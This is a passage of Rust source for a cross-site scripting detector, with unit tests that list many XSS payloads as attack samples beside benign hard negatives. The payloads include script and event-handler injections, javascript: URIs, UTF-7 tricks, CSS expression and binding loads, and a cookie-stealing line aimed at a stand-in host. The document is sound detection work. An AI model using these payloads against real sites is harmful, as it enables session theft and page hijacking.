            }
            _ => rest
                .get(
                    ..rest
                        .find(|c: char| c.is_ascii_whitespace())
                        .unwrap_or(rest.len()),
                )
                .unwrap_or(""),
        });
    }
    None
}

/// Whether `value` is a whole HTML document (`<html`, `<head` or a doctype).
fn whole_document(value: &str) -> bool {
    ["<html", "<head", "<!doctype"]
        .iter()
        .any(|m| super::gate::contains_ignore_case(value.as_bytes(), m.as_bytes()))
}

/// A `<meta>` tag whose attributes (`rest`, what follows `<meta`) act on
/// the page: `http-equiv` (a refresh to another page, a cookie set) unless
/// it only states the page's type in a plain charset, and a charset that
/// switches the page's decoder (UTF-7 and friends). In the head of a
/// [`whole_document`], `<meta charset="utf-8">` and `<meta
/// http-equiv="Content-Type" content="text/html; charset=UTF-8">` are what
/// every HTML e-mail and page starts with; a lone injected one is still a
/// probe.
fn meta(rest: &str, whole_document: bool) -> Option<Found> {
    let end = memchr::memchr(b'>', rest.as_bytes()).map_or(rest.len(), |e| e + 1);
    let tag = rest.get(..end).unwrap_or("").to_ascii_lowercase();
    // The charset named at `at` (the `charset` attribute or the one in a
    // Content-Type), in a document, is one of the plain ones.
    let plain_charset = |at: usize| {
        let v = tag.get(at + "charset".len()..).unwrap_or("");
        let v = v.trim_start_matches([' ', '=', '"', '\'']);
        whole_document
            && ["utf-8", "utf8", "iso-8859-1", "windows-1252", "us-ascii"]
                .iter()
                .any(|c| {
                    v.strip_prefix(c).is_some_and(|r| {
                        r.is_empty() || r.starts_with([' ', '"', '\'', ';', '/', '>'])
                    })
                })
    };
    let charset = tag.find("charset");
    if let Some(at) = tag.find("http-equiv") {
        let kind = tag.get(at + "http-equiv".len()..).unwrap_or("");
        let kind = kind.trim_start_matches([' ', '=', '"', '\'']);
        if !(kind.starts_with("content-type") && charset.is_some_and(plain_charset)) {
            return Some(("xss.meta_refresh", 0.7));
        }
    }
    charset
        .filter(|at| !plain_charset(*at))
        .map(|_| ("xss.meta_charset", 0.6))
}

/// Whether `rest` (what follows `<style`) opens a stylesheet of plain rules
/// (`body{font-family:Arial}`, `@media`, `url(https://...)` backgrounds):
/// attributes without markup, a sheet with a rule and up to its end tag,
/// and nothing CSS uses to load or run code or to hide from a filter:
/// `@import`, `url(` to anything but an http(s) or relative
/// address, escapes, `expression`, `behavior`, `binding`, `javascript`,
/// attribute-value selectors beside a `url(` (a sheet that reads a form
/// field out letter by letter).
fn plain_stylesheet(rest: &str) -> bool {
    let Some(gt) = memchr::memchr(b'>', rest.as_bytes()) else {
        return false;
    };
    let (attrs, after) = (
        rest.get(..gt).unwrap_or(""),
        rest.get(gt + 1..).unwrap_or(""),
    );
    if attrs.contains(['<', '\\', '`', '(']) {
        return false;
    }
    // Only the sheet is lower-cased (a value of many style tags would
    // otherwise copy its rest once per tag).
    let Some(end) = super::gate::find_ignore_case(after.as_bytes(), b"</style") else {
        return false;
    };
    let sheet = after.get(..end).unwrap_or("").to_ascii_lowercase();
    let sheet = sheet.as_str();
    if !sheet.contains('{') || sheet.contains(['\\', '<', '`']) {
        return false;
    }
    let mut urls = 0;
    for (at, _) in sheet.match_indices("url(") {
        urls += 1;
        let arg = sheet.get(at + 4..).unwrap_or("");
        let arg = arg.get(..arg.find(')').unwrap_or(arg.len())).unwrap_or("");
        let target = arg.trim_start_matches([' ', '"', '\'']);
        let web = target.starts_with("https://")
            || target.starts_with("http://")
            || target.starts_with("//")
            || !target.contains(':');
        if !web {
            return false;
        }
    }
    let selects_values = ["^=", "$=", "*="].iter().any(|o| sheet.contains(o));
    !([
        "@import",
        "expression",
        "behavior",
        "binding",
        "javascript",
        "vbscript",
    ]
    .iter()
    .any(|n| sheet.contains(n))
        || (selects_values && urls > 0))
}

/// CSS that runs script: `url(javascript:`, `expression(`, `-moz-binding`.
fn css(s: &str) -> Option<Found> {
    if !may_css(s) {
        return None;
    }
    let v = squeeze_long(s);
    (v.contains("url(javascript")
        || v.contains("url(vbscript")
        || v.contains("-moz-binding:")
        || v.contains(":expression(")
        || v.contains("behavior:url("))
    .then_some(("xss.css_expression", 0.75))
}

/// Gate of [`css`]: each of its needles holds a `(` right after an `l`
/// (`url(`) or an `n` (`expression(`), or a `:` right after a `g`
/// (`-moz-binding:`). Squeezing only drops whitespace and control
/// characters and lower-cases ASCII (and keeps a prefix), so in `s` that
/// `(` or `:` has the letter, in either case, as the last character before
/// it that is neither.
fn may_css(s: &str) -> bool {
    let b = s.as_bytes();
    memchr::memchr2_iter(b'(', b':', b).any(|at| {
        let prev = s.get(..at).and_then(|h| {
            h.chars()
                .rev()
                .find(|c| !c.is_whitespace() && !c.is_control())
        });
        match b.get(at) {
            Some(b'(') => matches!(prev, Some('l' | 'L' | 'n' | 'N')),
            _ => matches!(prev, Some('g' | 'G')),
        }
    })
}

/// [`squeeze`] without its length cap (bounded by the value cap).
fn squeeze_long(s: &str) -> String {
    s.chars()
        .filter(|c| !c.is_whitespace() && !c.is_control())
        .take(16 * 1024)
        .collect::<String>()
        .to_ascii_lowercase()
}

/// Judges a decoded value.
pub fn detect(s: &str) -> Option<Found> {
    // A lone `-->` closes an HTML comment the value lands in.
    if s.trim() == "-->" {
        return Some(("xss.comment_close", 0.6));
    }
    match fold_markup(s) {
        Some(t) => {
            let f = best(judge(s), judge(&t));
            // `\xbctest\xbe`: a tag in 8-bit ASCII written as escapes.
            let escaped = s.match_indices("\\xbc").take(8).any(|(at, _)| {
                s.as_bytes()
                    .get(at + 4)
                    .is_some_and(u8::is_ascii_alphabetic)
            });
            best(f, escaped.then_some(("xss.encoded_markup", 0.6)))
        }
        None => judge(s),
    }
}

/// Which of the bytes [`judge`] branches on a value holds.
#[derive(Clone, Copy, Debug, Default, PartialEq)]
struct Marks {
    lt: bool,
    colon: bool,
    eq: bool,
    paren: bool,
    tick: bool,
    bracket: bool,
    dot: bool,
}

impl Marks {
    /// One pass over a short value (seven `memchr` set-ups cost more
    /// there); a long one gets the searches ([`Marks::searched`]).
    fn of(b: &[u8]) -> Marks {
        if b.len() > 128 {
            return Marks::searched(b);
        }
        let mut m = Marks::default();
        for &c in b {
            match c {
                b'<' => m.lt = true,
                b':' => m.colon = true,
                b'=' => m.eq = true,
                b'(' => m.paren = true,
                b'`' => m.tick = true,
                b'[' => m.bracket = true,
                b'.' => m.dot = true,
                _ => {}
            }
        }
        m
    }

    fn searched(b: &[u8]) -> Marks {
        let has = |c: u8| memchr::memchr(c, b).is_some();
        Marks {
            lt: has(b'<'),
            colon: has(b':'),
            eq: has(b'='),
            paren: has(b'('),
            tick: has(b'`'),
            bracket: has(b'['),
            dot: has(b'.'),
        }
    }
}

fn judge(s: &str) -> Option<Found> {
    let b = s.as_bytes();
    let Marks {
        lt,
        colon,
        eq,
        paren,
        tick,
        bracket,
        dot,
    } = Marks::of(b);
    if !(lt || colon || eq || paren || tick || bracket || dot) {
        return None;
    }
    let mut found = None;
    if lt {
        found = tags(s);
    }
    if eq {
        found = best(found, bare_handler(b));
    }
    if paren || tick || bracket || dot {
        found = best(found, script_value(s));
    }
    if paren && colon {
        found = best(found, css(s));
    }
    if colon {
        found = best(found, script_uri(s));
        // `javascript:` anywhere followed by a call (found in any case
        // in place: lower-casing keeps every byte offset).
        if let Some(at) = gate::find_ignore_case(b, b"javascript:")
            .or_else(|| gate::find_ignore_case(b, b"vbscript:"))
        {
            let rest = b.get(at..).unwrap_or(&[]);
            if memchr::memchr2(b'(', b'`', rest).is_some() {
                found = best(found, Some(("xss.script_uri", 0.8)));
            }
        }
    }
    if eq {
        // Breaking out of an attribute: `" onmouseover=alert(1)`.
        for at in memchr::memchr2_iter(b'"', b'\'', b).take(32) {
            let rest = s.get(at + 1..).unwrap_or("");
            let t = rest.trim_start_matches([' ', '\t', '\n', '\r', '/', '\x0c']);
            let name_len = t.bytes().take_while(|c| c.is_ascii_alphabetic()).count();
            let name = t.get(..name_len).unwrap_or("").to_ascii_lowercase();
            let after = t.get(name_len..).unwrap_or("").trim_start();
            if name_len > 4 && name.starts_with("on") && after.starts_with('=') {
                found = best(found, Some(("xss.attr_breakout", 0.9)));
            }
            if name == "formaction" && after.starts_with('=') {
                // Only injected markup sets a form's target from a value.
                found = best(found, Some(("xss.attr_breakout", 0.7)));
            }
            if (name == "style" || URL_ATTRS.contains(&name.as_str())) && after.starts_with('=') {
                let v = after.get(1..).unwrap_or("");
                found = best(found, script_uri(v).map(|_| ("xss.attr_breakout", 0.85)));
            }
        }
    }
    if paren || tick {
        // Breaking out of a JS string into a sink: `';alert(1)//`, `"-alert(1)-"`.
        for at in memchr::memchr2_iter(b'"', b'\'', b).take(32) {
            let rest = s.get(at + 1..).unwrap_or("");
            let t = rest.trim_start_matches([' ', ')', ']', '}']);
            if let Some(t) = t.strip_prefix([';', '+', '-', '*', '/', '|', '&', ',', '^']) {
                let t = t.trim_start_matches(['|', '&', ' ']);
                if sink_at(t) {
                    found = best(found, Some(("xss.js_breakout", 0.85)));
                }
            }
        }
        // A sink called with a typical proof argument.
        let lower = if PROOF_SINKS.as_ref().is_none_or(|ac| ac.is_match(s)) {
            s.to_ascii_lowercase()
        } else {
            String::new()
        };
        for k in ["alert", "prompt", "confirm"] {
            for (at, _) in lower.match_indices(k).take(8) {
                let prev = at
                    .checked_sub(1)
                    .and_then(|p| lower.as_bytes().get(p).copied());
                if prev.is_some_and(|c| c.is_ascii_alphanumeric() || c == b'_') {
                    continue;
                }
                let rest = lower.get(at + k.len()..).unwrap_or("").trim_start();
                let arg = rest
                    .strip_prefix(['(', '`'])
                    .unwrap_or("")
                    .trim_start_matches(['\'', '"', ' ']);
                if arg.starts_with(|c: char| c.is_ascii_digit())
                    || arg.starts_with("document.")
                    || arg.starts_with("window.")
                    || arg.starts_with("/xss")
                    || arg.starts_with("xss")
                    || arg.starts_with("string.fromcharcode")
                {
                    found = best(found, Some(("xss.sink_call", 0.6)));
                }
            }
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Bytes [`fold_markup`] and [`judge`] react to, and their neighbours.
    const SOUP: &[&str] = &[
        "a", "Z", "0", " ", "%", "%2b", "%2B", "+", "+ADw", "+AD4", "+ADw-", "+ACI-", "AD", "w",
        "\\", "\\xbc", "\\xbe", "\\xa2", "\u{bc}", "\u{be}", "\u{a2}", "é", "<", ">", ":", "=",
        "(", ")", "`", "[", "]", ".", "script", "alert", "\"", "'",
    ];

    proptest::proptest! {
        /// The byte gate of `fold_markup` turns away only values the
        /// ungated folding returns `None` for.
        #[test]
        fn fold_markup_gate_agrees(
            picks in proptest::collection::vec(0..SOUP.len(), 0..12),
        ) {
            let v: String = picks.iter().filter_map(|&i| SOUP.get(i).copied()).collect();
            proptest::prop_assert_eq!(fold_markup(&v), fold_markup_ungated(&v), "{:?}", v);
        }

        /// One pass over the bytes marks what the seven searches mark, on
        /// short and long values.
        #[test]
        fn marks_are_the_searches(
            picks in proptest::collection::vec(0..SOUP.len(), 0..80),
        ) {
            let v: String = picks.iter().filter_map(|&i| SOUP.get(i).copied()).collect();
            proptest::prop_assert_eq!(Marks::of(v.as_bytes()), Marks::searched(v.as_bytes()));
        }
    }

    /// The gate's needles: each holds a byte the gate looks for.
    #[test]
    fn fold_markup_needles_pass_the_gate() {
        for v in [
            "%2bADwscript%2bAD4",
            "+ADw-script+AD4-",
            "\u{bc}script\u{be}",
            "\\xbcscript\\xbe",
        ] {
            assert!(fold_markup(v).is_some(), "{v:?}");
        }
    }

    #[test]
    fn attacks() {
        for a in [
            "<script>alert(1)</script>",
            "<ScRiPt src=//x.y/z.js>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<body onload=alert('x')>",
            "document.cookie",
            "document.cookie;",
            "new Image().src='//x.example/?c='+document . cookie",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\"jav\tascript:alert(1)\">x</a>",
            "<iframe src=\"data:text/html,<script>alert(1)</script>\">",
            "\" onmouseover=\"alert(1)",
            "' autofocus onfocus=alert(1) x='",
            "javascript:alert(document.cookie)",
            "';alert(1)//",
            "\"-alert(1)-\"",
            "<div style=\"width:expression(alert(1))\">",
            "<details open ontoggle=confirm`1`>",
            "</script><script>alert(1)</script>",
            "<x onclick=alert(1)>click",
            "<object data=\"javascript:alert(1)\">",
            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
            // Attributes injected without a tag, in any spelling of the boundary.
            "x onload=alert(1)",
            "  onmouseover= ",
            "test;onfocus=eval(atob('YWxlcnQoMSk='))",
            "onload=alert()",
            // Script as a value: DOM sinks, bracket access, templates, JSFuck.
            "document /*foo*/ .     cookie",
            "window[\"alert\"](window[\"document\"][\"cookie\"])",
            "(document)[\"cookie\"]",
            "setInterval(code, 1)",
            "eval('2 + 2')",
            "new Function()",
            "[].sort.call`${alert}1337`",
            "Reflect.apply.call`${navigation.navigate}`",
            "(![] + [])[+!+[]]",
            // CSS and loading tags.
            "x=x:url(javascript",
            "-moz-binding:url(http://example.com/xss.xml#xss)",
            "<v:vmlframe src=\"foo.com/sup.fml\"/>",
            "<link href=\"xss.js\" rel=stylesheet>",
            "<?import implementation =",
            "<STYLE>@import'//x.y/z.css'</STYLE>",
            // Decoder tricks: UTF-7 and 8-bit ASCII.
            "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
            "+ADwAcwBjAHIAaQBwAHQAPgBhAGwAZQByAHQAKAAxACkAPAAvAHMAYwByAGkAcAB0AD4-",
            "+ADw-img src+AD0-x onerror+AD0-alert(1)+AD4-",
            "+ADwscript+AD4alert(1)",
            "\u{bc}script\u{be}alert(\u{a2}XSS\u{a2})\u{bc}/script\u{be}",
            "%2bADw-script%2bAD4-",
            "\\xbctest\\xbetest(\\xa2XSS\\xa2)\\xbc/test\\xbe",
            // Tag names split or prefixed the way filters strip them.
            "<f o r m",
            "$<d i a l o g",
            "< x: script",
            "foo<s/c/r/i/p/t>",
            "<:vmlframe src=",
            "<importimplementation=",
            "<noscript#",
            "<meta charset=\"UTF-7\">",
            // Data URIs, comment breaks, attribute injection, probes.
            " data: , <x>",
            "-->",
            "'formaction=",
            "  onwebkitplaybacktargetavailabilitychanged= ",
            "+!![]",
            "atob()",
            "btoa('x')",
            "document.querySelector(\"p\").textContent=\"XSS\"",
            "document.body.appendChild(document.createElement(\"h1\")).textContent = \"XSS\"",
        ] {
            assert!(detect(a).is_some_and(|f| f.1 >= 0.5), "missed {a:?}");
        }
    }

    #[test]
    fn hard_negatives() {
        for b in [
            "C+- and C++ +ADw-b+AD4-bold+ADw-/b+AD4-",
            "a+AD4-b is a > b in UTF-7",
            "<b>bold</b> and <i>italic</i>",
            "See <a href=\"https://example.com/docs\">the docs</a>",
            "if (a < b && c > d) { return a; }",
            "x<y and y>z",
            "Use **bold** and `code` in Markdown",
            "<p>Hello, world!</p><br/>",
            "email me: bob@example.com",
            "https://example.com/path?x=1",
            "I'm online = available",
            "price (USD): 10",
            "the alerting system",
            "<3 love it",
            "one=two&three=four",
            "sort=price onsale=true",
            "turn the lights on = saves power",
            "go to document.pdf and window.png",
            "document.cookie expires after a week",
            "window.location changes when you click",
            "the eval function in Python is dangerous",
            "please confirm your email",
            "[1, 2, 3]",
            "a[b] = c.d",
            "Read https://example.com/a?b=c;d=e",
            "```js\nconst x = a < b ? a : b;\nif (x && y) { return x; }\n```",
            "import numpy as np",
            "C++ vs C#",
            "1.5 (approx.)",
            "on=off",
            "data: 1, 2, 3",
            "Confirm (yes/no)?",
            "React: <Button onClick={handleClick}>Save</Button>",
            "JS: `document.getElementById('app').innerHTML = html;`",
            "<soap:Body><m:GetPrice>x</m:GetPrice></soap:Body>",
            "<o:p></o:p> <w:body>",
            "if a < b: script runs",
            "x < body weight",
            "a < form field",
            "step 1 --> step 2",
            "the <formula> tag",
            "<b>s c r i p t</b> spelled out",
            "data: a, b < c",
            "const s = atob(data);",
            "![]",
            "the form action=\"/submit\" is fine",
            "document.pdf, window.xlsx and location",
        ] {
            assert_eq!(detect(b), None, "flagged {b:?}");
        }
    }

    /// `may_css` against `css` itself: every value `css` flags passes the
    /// gate, including needles spelled with blanks, control characters and
    /// capitals that only the squeeze joins.
    #[test]
    fn css_gate_keeps_every_css_hit() {
        for (v, gate, hit) in [
            ("width: expression(alert(1))", true, true),
            ("x:EXPRESSION\t (1)", true, true),
            ("x:Expression \u{b}(1)", true, true),
            ("x:expressio n(1)", true, true),
            ("background:url(javascript:alert(1))", true, true),
            ("background: u r L (vbscript:x)", true, true),
            ("behavior: url(x.htc)", true, true),
            ("-moz-binding:url(x)", true, true),
            ("-MOZ-BINDIN\u{a0}G :url(x)", true, true),
            ("Mozilla/5.0 (X11; Linux x86_64; rv:17.0)", false, false),
            ("12 O'Connell St.", false, false),
            ("time: 10:30 (UTC)", false, false),
            ("see (a) and (b): done", false, false),
            ("tag: thing(1)", true, false),
        ] {
            assert_eq!(may_css(v), gate, "gate {v:?}");
            assert_eq!(css(v).is_some(), hit, "css {v:?}");
            assert!(gate || !hit, "css fires past its gate: {v:?}");
        }
    }

    /// An HTML e-mail's or a CMS page's own stylesheet is markup, not an
    /// attack; a style element that imports, binds, escapes, reads form
    /// fields out through `url()`, or holds no sheet at all still is.
    #[test]
    fn plain_stylesheets_pass_and_loaded_ones_do_not() {
        for b in [
            "<html><head><style>body{font-family:Arial} .btn{color:#fff}</style></head><body><p>Hi</p></body></html>",
            "<style type=\"text/css\">@media only screen and (max-width:600px){.col{width:100%!important}}</style>",
            "<STYLE>td{background:url(https://cdn.example.com/bg.png) no-repeat}</STYLE><table><tr><td>x</td></tr></table>",
            "<style>.hero{background-image:url('/img/hero.jpg')}</style>",
        ] {
            assert_eq!(detect(b), None, "flagged {b:?}");
        }
        for a in [
            "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
            "<STYLE>BODY{-moz-binding:url(\"http://xss.rocks/xssmoz.xml#xss\")}</STYLE>",
            "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
            "<style>li{list-style-image:url(\"javascript:alert(1)\")}</style>",
            "<style>x{background:url(data:image/svg+xml;base64,PHN2Zz4=)}</style>",
            "<style>@im\\port'\\ja\\vasc\\ript:alert(1)';</style>",
            "<STYLE>=\\\\",
            "<style>",
            "<style>body{color:red}",
            "<style onload=alert(1)>x{}</style>",
        ] {
            assert!(detect(a).is_some(), "missed {a:?}");
        }
    }

    /// A video, map or audio player embedded by its service's embed
    /// address is no loading tag; an iframe elsewhere, with `srcdoc` or a
    /// handler, or on a look-alike host still is.
    #[test]
    fn player_embeds_pass() {
        for b in [
            "<p>Watch:</p><iframe width=\"560\" height=\"315\" src=\"https://www.youtube.com/embed/dQw4w9WgXcQ?rel=0\" \
             frameborder=\"0\" allow=\"autoplay; encrypted-media\" allowfullscreen></iframe>",
            "<iframe src=\"https://player.vimeo.com/video/76979871\" width=\"640\"></iframe>",
            "<iframe src=\"https://www.google.com/maps/embed?pb=!1m18!1m12\" style=\"border:0\" loading=\"lazy\"></iframe>",
        ] {
            assert_eq!(detect(b), None, "flagged {b:?}");
        }
        for a in [
            "<iframe src=\"https://evil.example/phish\"></iframe>",
            "<iframe src=\"https://www.youtube.com.evil.example/embed/x\"></iframe>",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<iframe srcdoc=\"<script>alert(1)</script>\" src=\"https://www.youtube.com/embed/x\"></iframe>",
            "<iframe src=\"https://www.youtube.com/embed/x\" onload=\"alert(1)\"></iframe>",
            "<iframe src=\"http://www.youtube.com/embed/x\"></iframe>",
            "<iframe src=\"https://www.youtube.com/watch?v=x\"></iframe>",
        ] {
            assert!(detect(a).is_some(), "missed {a:?}");
        }
    }

    /// A PDF, image or video embedded as what it is passes; a page, a
    /// plugin, an SVG or a script address in an object or embed does not.
    #[test]
    fn document_embeds_pass() {
        for b in [
            "<object type=\"application/pdf\" data=\"https://cdn.example.com/manual.pdf\" width=\"100%\"></object>",
            "<embed src=\"/files/manual.pdf?v=2\" type=\"application/pdf\">",
        ] {
            assert_eq!(detect(b), None, "flagged {b:?}");
        }
        for a in [
            "<object data=\"https://evil.example/x.html\"></object>",
            "<object type=\"application/pdf\" data=\"javascript:alert(1)//.pdf\"></object>",
            "<object type=\"text/html\" data=\"https://evil.example/x.pdf\"></object>",
            "<embed src=\"https://evil.example/x.svg\" type=\"image/svg+xml\">",
            "<embed src=\"https://evil.example/x.swf\" type=\"application/pdf\">",
            "<object type=\"application/pdf\" data=\"data:application/pdf,x.pdf\"></object>",
        ] {
            assert!(detect(a).is_some(), "missed {a:?}");
        }
    }

    /// The `<meta>` and `<link>` tags that head every HTML e-mail and page
    /// pass in a whole document; a refresh, a cookie, a decoder switch, a
    /// lone injected charset or stylesheet, an import and a link to a
    /// script scheme do not.
    #[test]
    fn document_heads_pass() {
        for b in [
            "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>Sale</title></head><body>x</body></html>",
            "<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=UTF-8\"></head></html>",
            "<!DOCTYPE html><html><head><link rel=\"stylesheet\" href=\"style.css\"><link rel=icon href=/favicon.ico>\
             <link rel=\"preconnect\" href=\"https://fonts.gstatic.com\" crossorigin>\
             <link rel='shortcut icon' href='//cdn.example.com/i.png'></head><body>x</body></html>",
        ] {
            assert_eq!(detect(b), None, "flagged {b:?}");
        }
        for a in [
            "<meta charset=\"UTF-8\">",
            "<html><head><meta charset=\"UTF-7\"></head></html>",
            "<html><head><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"></head></html>",
            "<html><meta http-equiv=\"Content-Type\" content=\"text/html; charset=UTF-7\"></html>",
            "<html><meta http-equiv=\"Set-Cookie\" content=\"a=b\"></html>",
            "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
            "<html><head><link rel=\"import\" href=\"https://evil.example/x.html\"></head></html>",
            "<html><head><link rel=\"stylesheet\" href=\"javascript:alert(1)\"></head></html>",
            "<html><head><link rel=\"stylesheet\" href=\"data:text/css,x\"></head></html>",
            "<html><head><link rel=\"stylesheet\" href=\"a.css\" onload=\"alert(1)\"></head></html>",
            "<html><head><link rel=\"prefetch\" href=\"https://evil.example/\"></head></html>",
            "<html><head><link href=\"a.css\"></head></html>",
        ] {
            assert!(detect(a).is_some(), "missed {a:?}");
        }
    }
}
